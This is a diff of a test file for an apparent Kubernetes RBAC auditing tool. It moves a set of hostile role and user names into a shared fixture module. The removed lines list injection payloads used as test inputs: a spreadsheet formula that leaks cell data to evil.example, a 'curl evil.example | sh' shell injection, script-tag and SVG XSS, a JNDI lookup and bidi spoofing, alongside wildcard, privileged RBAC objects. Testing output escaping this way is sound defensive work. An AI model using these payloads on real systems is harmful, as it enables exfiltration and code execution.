@@ -29,6 +29,8 @@ import { closeStore } from '@/lib/store/open';
 import { getSnapshot } from '@/lib/store/snapshots';
 import type { FindingDetail } from '@/lib/store/types';
 import { localOperator as me } from '@/lib/store/viewer';
+import { cellsOf } from '@/lib/testing/csv';
+import { hostileNames as names, hostileObjects } from '@/lib/testing/hostile-cluster';
 import { GET as findings } from './api/v1/findings/route';
 import { GET as search } from './api/v1/search/route';
 import { GET as bindingsCsv } from './api/v1/clusters/[cluster]/bindings/csv/route';
@@ -44,56 +46,6 @@ vi.mock('next/headers', () => ({
   cookies: async () => ({ get: () => undefined }),
 }));
 
-/** What somebody may be called, or call a role: all of it is valid in Kubernetes. */
-const names = [
-  '=HYPERLINK("http:evil.example?leak="&A1,"Click")',
-  '+1+1',
-  "@SUM(1+1)*cmd|' :C calc'!A0",
-  '<img src=x onerror=alert(1)>',
-  '<script>alert(2)<:script>',
-  '"><svg onload=alert(3)>',
-  '[click me](javascript:alert(4)) **bold** `code`',
-  '![x](http:evil.example) @everyone <!channel> <@U1>',
-  '{code}[~admin] !x.png! h1. {noformat}',
-  'a, "b"\r\n=1+1; c',
-  'admin\u202egnp.exe\u200b',
-  "'; curl evil.example | sh; '",
-  '👩‍💻 dev ops 🏴‍☠️',
-  '${jndi:ldap:evil} {{7*7}} <?= 7 ?>',
-] as const;
-
-const api = 'rbac.authorization.k8s.io';
-const objects = [
-  { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'shop', labels: { team: names[4] } } },
-  { apiVersion: `${api}/v1`, kind: 'Role', metadata: { name: 'reader', namespace: 'shop' }, rules: [] },
-  ...names.flatMap((name, at) => [
-    {
-      ...{ apiVersion: `${api}/v1`, kind: 'ClusterRole', metadata: { name } },
-      rules: [{ apiGroups: ['*'], resources: ['*', name], verbs: ['*'] }],
-    },
-    {
-      ...{ apiVersion: `${api}/v1`, kind: 'ClusterRoleBinding', metadata: { name } },
-      roleRef: { apiGroup: api, kind: 'ClusterRole', name },
-      subjects: [{ apiGroup: api, kind: at % 2 ? 'Group' : 'User', name }],
-    },
-    {
-      ...{ apiVersion: `${api}/v1`, kind: 'RoleBinding', metadata: { name, namespace: 'shop' } },
-      roleRef: { apiGroup: api, kind: 'Role', name: `gone ${name}` },
-      subjects: [{ apiGroup: api, kind: 'User', name }],
-    },
-    {
-      ...{ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name, namespace: 'shop', labels: { app: name } } },
-      spec: {
-        selector: { matchLabels: { app: name } },
-        template: {
-          metadata: { labels: { app: name } },
-          spec: { containers: [{ name, image: `registry.example/${at}:1`, securityContext: { privileged: true } }] },
-        },
-      },
-    },
-  ]),
-];
-
 const address = 'https://lynceus.example.com';
 let folder = '';
 let details: FindingDetail[] = [];
@@ -102,7 +54,7 @@ beforeAll(async () => {
   folder = mkdtempSync(join(tmpdir(), 'lynceus-hostile-'));
   process.env['LYNCEUS_DATA'] = folder;
   await createCluster(me, { id: 'test', name: names[3], source: 'file' });
-  await storeInventory('test', normalise(objects, { source: 'file', collectedAt: '2026-03-01T00:00:00.000Z' }));
+  await storeInventory('test', normalise(hostileObjects, { source: 'file', collectedAt: '2026-03-01T00:00:00.000Z' }));
   const { items } = await listFindings(me, { clusterId: 'test', severity: ['critical'], limit: 500 });
   const chosen = names.flatMap((name) => items.find(({ resource }) => resource.name === name) ?? []);
   details = await Promise.all(chosen.map(({ id }) => getFinding(me, id)));
@@ -114,18 +66,6 @@ afterAll(async () => {
 });
 
 const turning = /[\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
-
-/** Rows of cells, as RFC 4180 and spreadsheets read them. */
-function cellsOf(text: string): string[][] {
-  const rows: string[][] = [[]];
-  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
-  while (pattern.lastIndex < text.length) {
-    const [, quoted, plain = '', end] = pattern.exec(text) ?? expect.fail(`no CSV: ${text.slice(0, 200)}`);
-    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
-    if (end === '\r\n') rows.push([]);
-  }
-  return rows.filter((row) => row.length > 0);
-}
 
 function harmlessCsv(text: string) {
   const [head = [], ...rows] = cellsOf(text);
